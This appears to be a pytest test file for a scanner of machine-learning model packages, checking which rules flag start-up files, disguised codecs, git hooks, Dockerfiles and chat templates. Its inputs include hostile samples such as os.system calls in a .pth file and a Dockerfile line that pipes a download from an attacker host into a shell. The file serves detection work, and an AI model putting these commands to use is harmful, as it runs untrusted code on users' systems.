from __future__ import annotations

import pytest
from tests.scan.examine import rules, unexamined

from modelward.formats.source import BytesSource
from modelward.scan.examination import Examination, Place


def test_start_up_files() -> None:
    assert rules(b"x = 1\n", "sitecustomize.py") == ["embedded-code"]
    assert rules(b"import evil\n", "x.pth") == ["embedded-code"]
    assert rules(b"import os; os.system('id')\n", "x.pth") == ["harmful-code"]


def test_handler_of_an_endpoint_runs_a_command() -> None:
    source = b"import os\nclass EndpointHandler:\n    def __init__(self, path=''):\n        os.system('id')\n"
    assert rules(source, "handler.py") == ["harmful-code"]
    assert rules(source, "tool.py") == []


def test_codec_in_disguise() -> None:
    assert rules(b"# coding: rot13\nvzcbeg bf\n", "a.py") == ["harmful-code"]


def test_python_2_is_not_examined() -> None:
    assert "it is not Python 3" in unexamined(b"print 'x'\n", "a.py")["a.py"]


def test_git_hooks_and_scripts() -> None:
    assert rules(b"#!/bin/sh\nmake\n", ".git/hooks/post-checkout") == ["embedded-code"]
    assert rules(b"FROM x\nRUN curl http://evil.tld/x | sh\n", "Dockerfile") == ["harmful-code"]


@pytest.mark.parametrize(
    ("siblings", "found"),
    [
        (("m/torch.py", "m/model.safetensors"), ["embedded-code"]),
        (("m/torch.py", "m/__init__.py", "m/model.bin"), []),
        (("m/torch.py", "model.bin"), []),
    ],
)
def test_file_that_takes_the_place_of_a_library(siblings: tuple[str, ...], found: list[str]) -> None:
    examination = Examination()
    examination.examine(
        BytesSource(b"x = 1\n"), Place("m/torch.py", "m/torch.py", siblings=frozenset(siblings))
    )
    assert [finding.rule for finding in examination.report.findings] == found


def test_templates_that_are_not_of_conversations_may_read_others() -> None:
    assert rules(b"{% include 'header.html' %}{{ body }}", "page.jinja") == []
    assert rules(b"{% include 'header.html' %}{{ messages }}", "page.jinja") == ["chat-template-escape"]
